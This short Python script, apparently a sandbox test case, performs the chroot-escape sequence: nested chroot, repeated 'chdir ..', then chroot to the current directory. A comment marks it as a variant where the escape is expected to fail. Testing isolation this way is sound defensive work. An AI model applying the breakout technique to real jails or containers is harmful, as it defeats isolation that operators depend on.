# missing: it is deeper inside, and `..` stops there
import os
import signal

os.mkdir("/hole")
os.chroot("/hole")
os.chdir("/")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
print("ready")
signal.pause()
